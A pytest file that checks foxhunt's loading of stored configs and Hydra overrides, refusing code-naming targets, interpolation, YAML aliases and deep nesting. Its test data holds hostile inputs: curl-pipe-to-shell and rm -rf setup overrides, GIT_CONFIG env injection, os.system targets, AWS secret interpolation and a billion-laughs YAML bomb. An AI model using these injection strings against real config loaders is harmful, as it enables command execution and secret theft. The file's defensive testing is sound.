"""A config or overrides read back from a store: only the classes conf/ places at each key, no
interpolation, no override that names code; each refusal one line naming where and the key."""

from __future__ import annotations

import os
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from omegaconf import OmegaConf

from foxhunt.config.families import families, family_names
from foxhunt.config.schema import resolved_config
from foxhunt.config.stored import check_stored_config, check_stored_overrides, conf_targets, load_stored_config
from foxhunt.errors import ConfigError

MODELS = family_names()


def test_the_allowlist_is_read_from_conf():
    """Every model family, source, callback and the budget a callback holds by interpolation."""
    allowed = conf_targets()
    models = {target for key, target in allowed if key == "model.module"}
    assert models == {family.module for family in families().values()}
    assert {"foxhunt.models.dqn.DQNAgent", "foxhunt.models.dlinear.DLinearForecaster"} <= models
    assert ("callbacks.memory_budget.budget", "foxhunt.memory.budget.MemoryBudget") in allowed  # budget: ${budget}
    assert {target for key, target in allowed if key == "data.source"} >= {"foxhunt.data.sources.synthetic.SyntheticBarSource"}
    assert not any(target.startswith(("os.", "subprocess.", "builtins.")) for _, target in allowed)


@pytest.mark.parametrize("model", MODELS)
@pytest.mark.parametrize("precision", ["fp32", "int8"])
def test_the_config_a_run_stores_passes(tmp_path, model, precision):
    from configs import compose_train_config

    cfg = compose_train_config([f"model={model}", f"precision={precision}"], tmp_path)
    stored = tmp_path / "config.yaml"
    stored.write_text(OmegaConf.to_yaml(resolved_config(cfg)))  # as training.provenance writes it
    loaded = load_stored_config(stored, "run x: config.yaml")
    assert loaded.model.module._target_ == cfg.model.module._target_


_KEYS = st.lists(
    st.sampled_from(["model", "module", "data", "source", "callbacks", "x", "precision", "asset"]), min_size=1, max_size=3
)
_TARGETS = st.sampled_from(["os.system", "subprocess.Popen", "builtins.eval", "pickle.loads", "torch.load",
                            "foxhunt.models.dqn.DQNAgent", "foxhunt.data.sources.csv.CsvBarSource", "planted.Payload"])  # fmt: skip


@given(keys=_KEYS, target=_TARGETS)
def test_a_target_conf_does_not_place_at_its_key_is_refused_naming_it(keys, target):
    key = ".".join(keys)
    config: dict = {}
    node = config
    for part in keys:
        node = node.setdefault(part, {})
    node["_target_"] = target
    if (key, target) in conf_targets():
        check_stored_config(config, "origin")
        return
    with pytest.raises(ConfigError) as caught:
        check_stored_config(config, "origin")
    line = str(caught.value)
    assert line.startswith(f"origin: {key}._target_={target!r}: not one of foxhunt's own classes") and "\n" not in line


@pytest.mark.parametrize(
    ("config", "message"),
    [
        ({"model": {"module": {"_target_": "foxhunt.models.dqn.DQNAgent", "_args_": ["x"]}}}, "model.module._args_: Hydra's _args_"),
        ({"model": {"module": {"_target_": "foxhunt.models.dqn.DQNAgent", "_partial_": True}}}, "model.module._partial_"),
        ({"model": {"layers": [{"_target_": "os.system"}]}}, "model.layers.0._target_='os.system'"),
        ({"data": {"path": "${oc.env:DATABENTO_API_KEY}"}}, "data.path='${oc.env:DATABENTO_API_KEY}': a stored config is resolved"),
        ({"asset": {"_target_": ["os.system"]}}, "asset._target_=['os.system']"),
        ({"asset": {"_target_": "foxhunt.models.dqn.DQNAgent"}}, "conf/ puts foxhunt.assets.AssetSpec there"),
    ],
)  # fmt: skip
def test_other_ways_a_stored_config_names_code_are_refused(config, message):
    with pytest.raises(ConfigError, match=None) as caught:
        check_stored_config(config, "foxhunt-dqn-es: config.yaml")
    assert message in str(caught.value)


@pytest.mark.parametrize("text", ["model: [unclosed\n", "- a list\n", "!!python/object/apply:os.system ['echo x']\n"])
def test_a_file_that_is_not_a_config_is_one_line(tmp_path, text):
    path = tmp_path / "config.yaml"
    path.write_text(text)
    with pytest.raises(ConfigError, match=r"^v1: config.yaml is not (readable YAML|a config)"):
        load_stored_config(path, "v1")


@pytest.mark.parametrize(
    "override",
    [
        "model=dqn", "asset=es,nq", "model.module.lr=3e-4", "+trainer.max_steps=5", "hydra.sweeper.n_trials=3",
        "hydra.sweep.dir=/tmp/sweep", "strategy=slurm", "strategy.partition=gpu", "hparams_search=dqn_optuna",
        "hydra.sweeper.params.model.module.lr=tag(log, interval(1e-4, 1e-2))", "hydra/launcher=joblib", "hydra.launcher.n_jobs=2",
        "hydra.sweeper.params={model.module.lr:'tag(log, interval(1e-4, 1e-2))',model.module.batch_size:'choice(32,64)'}",
        "hydra.sweeper.sampler.seed=7", "+trainer={max_steps:5}",
    ],
)  # fmt: skip
def test_plain_stored_overrides_pass(override):
    check_stored_overrides([override], "job j")


@pytest.mark.parametrize(
    "override",
    [
        "+callbacks.x._target_=os.system", "callbacks.progress._target_=planted.Payload", "hydra.launcher.setup=[curl x|sh]",
        "strategy.setup=[rm -rf ~]", "hydra.searchpath=[file:///tmp/planted]", "+hydra.callbacks.x._target_=planted.C",
        "hydra.job_logging.handlers.file.class=planted.Handler", "hydra/job_logging=planted", "--config-dir=/tmp/planted",
        "-cd", "model.module.lr=${oc.env:AWS_SECRET_ACCESS_KEY}", "+model.module.x.()=planted.factory",
        "+hydra.job.env_set.GIT_CONFIG_COUNT='1'", "+hydra.job.env_set.GIT_CONFIG_VALUE_0='touch /tmp/x; false'",
        "hydra.job.env_copy=[HOME]", "hydra.run.dir=/etc", "hydra.job.chdir=true", "hydra.output_subdir=../../x",
        "~hydra.job", "hydra.mode=RUN",
        # keys inside values (found by a helper probing resume: the first ran a shell line through git diff)
        "++hydra.sweeper.params={a:'choice(1)',+hydra.job.env_set.GIT_CONFIG_KEY_0:'choice(core.fsmonitor)'}",
        "hydra.sweeper.params.hydra.job.env_set.X=choice(1)", "hydra.sweeper.params={hydra.callbacks.x:'choice(1)'}",
        "hydra.sweeper.params={model.module:'choice({_target_:os.system})'}", "hydra.sweeper.sampler={_target_:os.system,command:ls}",
        "model.module={_target_:os.system}", "seed=choice({_target_:os.system},2)", "+trainer=[1,{x:{_args_:[rm]}}]",
        "hydra.sweeper.params=[a]", "model=dqn)(",
    ],
)  # fmt: skip
def test_stored_overrides_that_name_code_are_refused(override):
    with pytest.raises(ConfigError) as caught:
        check_stored_overrides(["model=dqn", override], "job j")
    assert str(caught.value).startswith(f"job j: stored override {override!r}: ")


def _laughs(levels: int) -> str:
    text, previous = "l0: &l0 [x, x, x, x, x, x, x, x, x, x]\n", "l0"
    for level in range(1, levels):
        text += f"l{level}: &l{level} [{', '.join([f'*{previous}'] * 10)}]\n"
        previous = f"l{level}"
    return text


@pytest.mark.parametrize(
    ("text", "line"),
    [
        (_laughs(9) + "model: {}\n", "an anchor"),  # 10^9 strings once expanded: a reproduce hung at 100% CPU
        ("model: *undefined\n", "an alias"),
        ("deep: " + "[" * 20_000 + "]" * 20_000 + "\n", "nested too deep"),  # a RecursionError traceback before
    ],
)
def test_a_stored_config_with_aliases_or_deep_nesting_is_one_line_at_once(tmp_path, text, line):
    """A stored config is plain YAML: anchors and aliases (foxhunt writes none) and nesting past
    the parser's depth are refused in one line, in well under a second."""
    path = tmp_path / "config.yaml"
    path.write_text(text)
    started = time.monotonic()
    with pytest.raises(ConfigError, match=r"^v1: config.yaml is not") as refused:
        load_stored_config(path, "v1")
    assert line in str(refused.value) and "\n" not in str(refused.value)
    assert time.monotonic() - started < 5.0


def test_a_stored_config_that_is_no_regular_file_is_refused_without_blocking(tmp_path):
    path = tmp_path / "config.yaml"
    os.mkfifo(path)
    with pytest.raises(ConfigError, match="not a regular file"):
        load_stored_config(path, "v1")
